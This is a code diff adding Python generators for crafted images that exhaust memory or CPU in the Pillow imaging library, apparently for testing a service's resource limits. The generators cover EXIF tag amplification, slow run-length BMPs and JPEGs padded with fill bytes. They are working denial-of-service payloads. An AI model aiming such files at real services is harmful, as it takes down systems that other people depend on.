@@ -104,3 +104,67 @@ def deep_png(side: int, bit_depth: int = 16, colour_type: int = 6, interlaced: b
     ihdr = struct.pack(">IIBBBBB", side, side, bit_depth, colour_type, 0, 0, int(interlaced))
     return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat + z.flush())
             + _chunk(b"IEND", b""))
+
+
+def amplified_exif(container: str = "jpeg", tags: int = 5_000, blob: int = 900_000, orientation: int = 6) -> bytes:
+    """An 8x8 image whose EXIF (1 MB at most) holds `tags` tags that all point at one `blob`-byte value:
+    Pillow copies the value out once per tag, so the defaults ask 4.5 GB of a worker (2,000 tags of
+    300 KB: 0.4 to 1 s and 600 MB measured). A JPEG's EXIF
+    may span many APP1 segments (Pillow joins them) and Pillow parses it inside Image.open when the
+    file gives no DPI; a TIFF names it as its Exif directory, which Pillow loads with the pixels.
+    container: jpeg, png (eXIf), webp or tiff."""
+    if container == "tiff":  # IFD0 describes an 8x8 grey strip and points at the Exif directory
+        strip_at = 8 + 2 + 12 * 10 + 4
+        exif_at = strip_at + 64
+        ifd0 = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
+                (0x0112, 3, 1, orientation), (273, 4, 1, strip_at), (277, 3, 1, 1), (279, 4, 1, 64),
+                (0x8769, 4, 1, exif_at)]
+        head, ifd_at, own = b"II*\0" + struct.pack("<I", 8) + _ifd(ifd0) + bytes(64), exif_at, []
+    else:
+        head, ifd_at, own = b"II*\0" + struct.pack("<I", 8), 8, [(0x0112, 3, 1, orientation)]
+    blob_at = ifd_at + 2 + 12 * (len(own) + tags) + 4
+    tiff = head + _ifd(own + [(0x9000 + i, 7, blob, blob_at) for i in range(tags)]) + bytes(blob)
+    if container == "tiff":
+        return tiff
+    buf = io.BytesIO()
+    if container == "png":
+        Image.new("L", (8, 8)).save(buf, "PNG")
+        png = buf.getvalue()
+        iend = png.rindex(b"IEND") - 4
+        return png[:iend] + _chunk(b"eXIf", tiff) + png[iend:]
+    if container == "webp":
+        Image.new("L", (8, 8)).save(buf, "WEBP", exif=b"Exif\0\0" + tiff)
+        return buf.getvalue()
+    Image.new("L", (8, 8)).save(buf, "JPEG")
+    jpeg = buf.getvalue()
+    segments = b"".join(b"\xff\xe1" + struct.pack(">H", 8 + len(part)) + b"Exif\0\0" + part
+                        for part in (tiff[i:i + 65_000] for i in range(0, len(tiff), 65_000)))
+    return jpeg[:2] + segments + jpeg[2:]
+
+
+def _ifd(entries: list[tuple[int, int, int, int]], next_ifd: int = 0) -> bytes:
+    """A little-endian TIFF directory: (tag, type, count, value or offset) entries, sorted by tag."""
+    return (struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in sorted(entries))
+            + struct.pack("<I", next_ifd))
+
+
+def rle_bmp(side: int = 6000, rle4: bool = False) -> bytes:
+    """A side x side run-length BMP whose every row holds one pixel and then ends: Pillow's RLE decoder,
+    written in Python, pads the rest of each row a pixel at a time (4 Mpx: 0.8 s). The default is
+    24 KB for 36 Mpx, under every pixel limit. Attacks budgets that count every decoder alike."""
+    data = (b"\x01\x00" + b"\x00\x00") * side + b"\x00\x01"  # one pixel, end of line; end of bitmap
+    palette = bytes(4 * (16 if rle4 else 256))
+    offset = 14 + 40 + len(palette)
+    info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 4 if rle4 else 8, 2 if rle4 else 1, len(data), 0, 0,
+                       len(palette) // 4, 0)
+    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + info + palette + data
+
+
+def jpeg_with_fill_bytes(count: int = 6_000_000) -> bytes:
+    """A 64x64 JPEG with `count` 0xFF fill bytes before its scan: the standard allows any number, and
+    Pillow's Image.open skips them a byte at a time in Python (6 MB: 2.7 s)."""
+    buf = io.BytesIO()
+    Image.new("RGB", (64, 64), "red").save(buf, "JPEG")
+    jpeg = buf.getvalue()
+    sos = jpeg.index(b"\xff\xda")
+    return jpeg[:sos] + b"\xff" * count + jpeg[sos:]
